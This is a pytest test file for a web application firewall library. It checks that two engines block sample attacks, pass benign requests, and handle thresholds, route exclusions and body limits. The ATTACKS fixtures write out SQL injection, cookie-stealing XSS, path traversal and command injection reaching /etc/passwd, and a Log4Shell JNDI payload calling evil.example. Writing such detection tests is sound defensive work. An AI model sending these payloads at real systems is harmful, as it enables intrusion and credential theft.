"""Behaviour both engines share: the same config must mean the same thing to each."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

import pytest
from sentinel_agents.waf import (
    BodyLimitAction,
    EngineChoice,
    RouteRules,
    TargetExclusion,
    WafConfig,
    WafEngine,
    WafMode,
    create_engine,
)
from waf_helpers import get, modsecurity_or_skip, multipart_body, post

Factory = Callable[..., WafEngine]


@pytest.fixture(params=["modsecurity", "fallback"])
def make_engine(request: pytest.FixtureRequest) -> Iterator[Factory]:
    if request.param == "modsecurity":
        modsecurity_or_skip()
    made: list[WafEngine] = []

    def factory(**settings: Any) -> WafEngine:
        engine = create_engine(WafConfig(engine=EngineChoice(request.param), **settings))
        assert engine.name == request.param
        made.append(engine)
        return engine

    yield factory
    for engine in made:
        engine.close()


ATTACKS = {
    "sqli": get("/search", "q=1%27%20UNION%20SELECT%20username%2C%20password%20FROM%20users--"),
    "xss": get("/search", "q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    "lfi": get("/download", "file=..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
    "rce": get("/ping", "host=127.0.0.1%3B%20cat%20%2Fetc%2Fpasswd"),
    "scanner": get("/", User_Agent="sqlmap/1.7.2#stable (https://sqlmap.org)"),
    "method": get("/").__class__(method="TRACK", path="/", headers={"Host": ["a.example"]}),
    "log4shell": get("/", X_Api_Version="${jndi:ldap://evil.example/a}"),
}
BENIGN = {
    "page": get("/products/shoes", "page=2&sort=price_asc", Cookie="session=abc123; lang=en"),
    "search": get("/search", "q=red%20running%20shoes%20size%2042"),
    "unicode": get("/search", "q=%E6%9D%B1%E4%BA%AC%20%E3%83%9B%E3%83%86%E3%83%AB"),
    "json": post(
        "/api/v1/orders",
        b'{"items": [{"sku": "A-1", "qty": 2}], "note": "Ring twice"}',
        "application/json",
    ),
    "form": post(
        "/contact",
        b"name=Bob+O%27Brien&message=Is+the+warranty+valid+in+Canada%3F",
        "application/x-www-form-urlencoded",
    ),
    "put": post("/api/v1/settings", b'{"theme": "dark"}', "application/json", method="PUT"),
}


@pytest.mark.parametrize("kind", sorted(ATTACKS))
def test_attack_samples_are_blocked(make_engine: Factory, kind: str) -> None:
    verdict = make_engine().inspect(ATTACKS[kind])
    assert verdict.blocked, verdict
    assert verdict.status == 403
    assert verdict.anomaly_score >= verdict.threshold == 5
    assert verdict.findings and all(f.rule_id > 0 and f.message for f in verdict.findings)
    assert verdict.reason.startswith("blocked: anomaly score")


def test_findings_carry_attack_tags(make_engine: Factory) -> None:
    engine = make_engine()
    assert "attack-sqli" in engine.inspect(ATTACKS["sqli"]).attack_tags
    assert "attack-xss" in engine.inspect(ATTACKS["xss"]).attack_tags
    assert "attack-lfi" in engine.inspect(ATTACKS["lfi"]).attack_tags
    lfi = engine.inspect(ATTACKS["lfi"])
    assert any(f.target == "ARGS:file" and "passwd" in f.matched_data for f in lfi.findings)


@pytest.mark.parametrize("kind", sorted(BENIGN))
def test_benign_samples_pass(make_engine: Factory, kind: str) -> None:
    verdict = make_engine().inspect(BENIGN[kind])
    assert not verdict.would_block, verdict.findings
    assert verdict.status == 200 and not verdict.blocked


def test_detect_only_mode_reports_without_blocking(make_engine: Factory) -> None:
    verdict = make_engine(mode=WafMode.DETECT).inspect(ATTACKS["sqli"])
    assert verdict.mode is WafMode.DETECT
    assert verdict.would_block and not verdict.blocked
    assert verdict.findings


def test_threshold_decides(make_engine: Factory) -> None:
    lenient = make_engine(anomaly_threshold=1000).inspect(ATTACKS["xss"])
    assert lenient.findings and lenient.anomaly_score > 0
    assert not lenient.would_block and lenient.threshold == 1000


def test_paranoia_level_two_sees_more(make_engine: Factory) -> None:
    # "SELECT … FROM" prose is a paranoia-2 signal in both engines, not a paranoia-1 one.
    request = get("/search", "q=select%20name%2C%20email%20from%20customers")
    assert not make_engine(paranoia_level=1).inspect(request).would_block
    assert make_engine(paranoia_level=2).inspect(request).would_block


def test_route_exclusions_apply_to_their_route_only(make_engine: Factory) -> None:
    body = b'{"query": "{ viewer { id name email orders(first: 10) { edges { node { id } } } } }"}'
    engine = make_engine(
        routes=(
            RouteRules(
                route="graphql",
                remove_targets=(
                    TargetExclusion(932100, "ARGS:json.query"),
                    TargetExclusion(932105, "ARGS:json.query"),
                ),
                remove_tags=("attack-rce",),
            ),
        )
    )
    attack = post(
        "/graphql", b'{"query": "; cat /etc/passwd"}', "application/json", route="graphql"
    )
    assert not engine.inspect(
        post("/graphql", body, "application/json", route="graphql")
    ).would_block
    # The route lost RCE detection, nothing else; other routes keep everything.
    assert engine.inspect(attack).would_block  # /etc/passwd is still LFI
    other = post("/graphql", b'{"query": "; cat /etc/passwd"}', "application/json")
    assert "attack-rce" in engine.inspect(other).attack_tags
    assert "attack-rce" not in engine.inspect(attack).attack_tags


def test_route_can_raise_its_threshold(make_engine: Factory) -> None:
    engine = make_engine(routes=(RouteRules(route="lab", anomaly_threshold=500),))
    request = post(
        "/lab",
        b"q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "application/x-www-form-urlencoded",
        route="lab",
    )
    verdict = engine.inspect(request)
    assert verdict.threshold == 500 and not verdict.would_block and verdict.findings


@pytest.mark.parametrize(
    ("content_type", "body"),
    [
        ("application/x-www-form-urlencoded", b"comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        ("application/json", b'{"profile": {"bio": "<script>alert(1)</script>"}}'),
        (
            "multipart/form-data; boundary=XyZzy",
            multipart_body(
                "XyZzy", [("title", None, b"hi"), ("bio", None, b"<script>alert(1)</script>")]
            ),
        ),
    ],
    ids=["urlencoded", "json", "multipart"],
)
def test_body_types_are_parsed_and_inspected(
    make_engine: Factory, content_type: str, body: bytes
) -> None:
    verdict = make_engine().inspect(post("/profile", body, content_type))
    assert verdict.blocked
    assert "attack-xss" in verdict.attack_tags


def test_benign_upload_passes(make_engine: Factory) -> None:
    png = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4
    body = multipart_body("----Bound42", [("avatar", "me.png", png), ("crop", None, b"0,0,16,16")])
    verdict = make_engine().inspect(
        post("/avatar", body, "multipart/form-data; boundary=----Bound42")
    )
    assert not verdict.would_block, verdict.findings


def test_broken_json_is_a_finding(make_engine: Factory) -> None:
    verdict = make_engine().inspect(post("/api/v1/items", b'{"a": ', "application/json"))
    assert verdict.would_block
    assert any("parse" in f.message.lower() for f in verdict.findings)


def test_body_over_limit_is_rejected(make_engine: Factory) -> None:
    engine = make_engine(body_limit=1024)
    verdict = engine.inspect(
        post("/upload", b"a=" + b"x" * 2000, "application/x-www-form-urlencoded")
    )
    assert verdict.blocked and verdict.status == 413
    assert verdict.findings[0].rule_id == 1_000_001


def test_body_over_limit_inspects_the_prefix_when_partial(make_engine: Factory) -> None:
    engine = make_engine(body_limit=64, body_limit_action=BodyLimitAction.PARTIAL)
    payload = b"q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&pad=" + b"x" * 4000
    assert engine.inspect(post("/c", payload, "application/x-www-form-urlencoded")).blocked
    hidden = b"pad=" + b"x" * 4000 + b"&q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
    assert not engine.inspect(post("/c", hidden, "application/x-www-form-urlencoded")).blocked


def test_custom_block_status(make_engine: Factory) -> None:
    assert make_engine(block_status=406).inspect(ATTACKS["sqli"]).status == 406


def test_verdicts_round_trip_through_msgspec(make_engine: Factory) -> None:
    import msgspec
    from sentinel_agents.waf import WafVerdict

    verdict = make_engine().inspect(ATTACKS["xss"])
    decoded = msgspec.json.decode(msgspec.json.encode(verdict), type=WafVerdict)
    assert decoded == verdict
